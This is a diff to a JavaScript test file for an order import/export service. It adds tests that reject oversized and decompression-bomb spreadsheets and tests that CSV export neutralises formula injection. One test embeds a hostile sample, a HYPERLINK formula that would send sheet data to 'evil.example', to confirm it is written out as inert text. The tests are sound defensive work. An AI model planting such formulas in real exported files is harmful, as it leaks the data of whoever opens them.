@@ -322,6 +322,10 @@ test('files that cannot be imported as a whole: a clear 4xx each', async () => {
     ['old_format.xls', 422, 'import_old_xls'],
     ['merged_header.xlsx', 422, 'import_merged_header'],
     ['wide_200_columns.csv', 422, 'import_too_many_columns'],
+    // One stray value at XFD1048576: once a 17-billion-cell rectangle that took the worker down.
+    ['stray_far_cell.xlsx', 422, 'import_too_many_columns'],
+    // About 100 KB that inflate to 101 MB.
+    ['inflates_too_much.xlsx', 422, 'import_too_large_unpacked'],
   ];
   for (const [name, status, code] of cases) {
     const response = await upload(fixture(name));
@@ -331,6 +335,10 @@ test('files that cannot be imported as a whole: a clear 4xx each', async () => {
   assert.match(old.json.error.message, /\.xlsx/);
   const merged = await upload(fixture('merged_header.xlsx'));
   assert.match(merged.json.error.message, /B1:C1/);
+  assert.match((await upload(fixture('stray_far_cell.xlsx'))).json.error.message, /16384 列/);
+  assert.match((await upload(fixture('inflates_too_much.xlsx'))).json.error.message, /解压后超过 100 MB/);
+  const after = await upload(fixture('orders_gbk.csv'));
+  assert.equal(after.status, 200, 'the worker still imports after those files');
 
   // A 10 MB CSV on one line: no header, said so, quickly.
   assertRefused(await upload(Buffer.alloc(10 * 1024 * 1024 - 1, 'x')), 422, 'import_no_header');
@@ -397,6 +405,34 @@ test('export: every order as CSV with a BOM and as xlsx; both import back unchan
   const xlsxBack = await upload(xlsx);
   assert.equal(xlsxBack.status, 200, xlsxBack.text);
   assert.deepEqual(xlsxBack.json.totals, { create: 0, update: 0, unchanged: pulled.size, error: 0 });
+});
+
+test('text that Excel would run as a formula is exported as text in the CSV, and the file still imports back unchanged', async () => {
+  // A company name, a contact or a customer's after-sales text is anyone's typing: opened from a
+  // CSV, a cell starting with = + - @ would run in finance's Excel (a link that sends the sheet
+  // away, or worse). Each is written with a leading apostrophe, which the importer takes off.
+  const header = '订单号,客户,联系人,电话,备注\n';
+  const formula = '=HYPERLINK("http://evil.example/?d="&A2,"查看合同")';
+  const body = Buffer.from(`${header}FX-CSVI-001,"${formula.replaceAll('"', '""')}",+86 联系人,13900000601,@SUM(1+1)\nFX-CSVI-002,'引号开头公司,-李四,13900000602,\n`);
+  const done = await upload(body, { dryRun: false });
+  assert.equal(done.status, 200, done.text);
+  assert.deepEqual(done.json.totals, { create: 2, update: 0, unchanged: 0, error: 0 }, done.text);
+  const stored = await pullAll(sales);
+  assert.equal(stored.get('FX-CSVI-001').customer.company, formula, 'stored as typed');
+  assert.equal(stored.get('FX-CSVI-002').customer.company, "'引号开头公司", 'an apostrophe someone typed stays');
+
+  const csv = (await exportCsv(sales)).toString('utf8');
+  const row = csv.split('\n').find((line) => line.startsWith('FX-CSVI-001'));
+  assert.ok(row.includes(`"'${formula.replaceAll('"', '""')}"`), row);
+  assert.ok(row.includes(",'+86 联系人,"), row);
+  assert.ok(row.includes(",'@SUM(1+1)"), row);
+  for (const cell of csv.split(/[\n,]/)) assert.doesNotMatch(cell, /^"?[=+@-]/, `no cell starts a formula: ${cell}`);
+
+  const back = await upload(Buffer.from(csv.replace(/^\uFEFF/, '')));
+  assert.equal(back.status, 200, back.text);
+  for (const number of ['FX-CSVI-001', 'FX-CSVI-002']) {
+    assert.equal(back.json.rows.find((r) => r.number === number).action, 'unchanged', number);
+  }
 });
 
 test('export with the board filter: only the orders the board would show, every one of them', async () => {
